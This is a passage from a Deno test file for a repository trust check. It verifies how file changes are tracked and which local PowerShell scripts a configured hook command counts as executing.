  assertEquals(await state(repository), "trusted");
  await write("a/package.json", {});
  const below = (await repository.read({ cwd })).trust;
  await recorded(below.digest, below.files);
  assertEquals((await repository.read({ cwd })).trust.state, "trusted");
  await recorded("other", { [PROJECT]: trust.files[PROJECT] });
  await write("package.json", {});
  const { changed, unseen, gone } = (await repository.read()).trust;
  assertEquals([changed, unseen, gone], [[], ["package.json"], []]);
});

/** Lines of PowerShell, or that start it, and which files count by that. */
const POWERSHELL: ReadonlyArray<
  readonly [command: string, shell: string | undefined, files: string[]]
> = [
  ["& $env:CLAUDE_PROJECT_DIR/tools/x.ps1", "powershell", ["tools/x.ps1"]],
  ['& "$env:CLAUDE_PROJECT_DIR\\tools\\x.ps1" -All', "powershell", ["tools/x.ps1"]],
  ["& ${env:CLAUDE_PROJECT_DIR}\\tools\\x.ps1", "powershell", ["tools/x.ps1"]],
  ["& ${CLAUDE_PROJECT_DIR}/tools/x.ps1", "powershell", ["tools/x.ps1"]],
  [".\\tools\\x.ps1; exit 0", "powershell", ["tools/x.ps1"]],
  ["& (Join-Path $env:CLAUDE_PROJECT_DIR 'tools/x.ps1')", "powershell", ["tools/x.ps1"]],
  ["$env:A = 1; . tools/x.ps1", "powershell", ["tools/x.ps1"]],
  ["cd tools; .\\x.ps1", "powershell", ["tools/x.ps1"]],
  ["pwsh -File tools/x.ps1", undefined, ["tools/x.ps1"]],
  ["pwsh -NoProfile -ExecutionPolicy Bypass -file tools/run", undefined, ["tools/run"]],
  ["/usr/bin/pwsh tools/run", undefined, ["tools/run"]],
  ["powershell -f 'tools\\x.ps1'", undefined, ["tools/x.ps1"]],
  ["& tools/y.ps1", "powershell", ["tools/lib.psm1", "tools/x.ps1", "tools/y.ps1"]],
  ["cat tools/x.ps1", undefined, []],
];

Deno.test("judgeTrust() looks at the scripts of PowerShell", async () => {
  await using repository = await repositorySandbox();
  const { write } = repository;
  await write("tools/x.ps1", "exit 2\n");
  await write("tools/run", "exit 2\n");
  await write("tools/lib.psm1", "\n");
  await write("tools/y.ps1", '. "$PSScriptRoot\\x.ps1"\nImport-Module $PSScriptRoot/lib.psm1\n');
  for (const [command, shell, files] of POWERSHELL) {
    await write(PROJECT, {
      hooks: { Stop: [{ hooks: [{ type: "command", command, ...shell ? { shell } : {} }] }] },
    });
    const { trust } = await repository.read();
    assertEquals([command, ...Object.keys(trust.files)], [command, PROJECT, ...files]);
  }
});
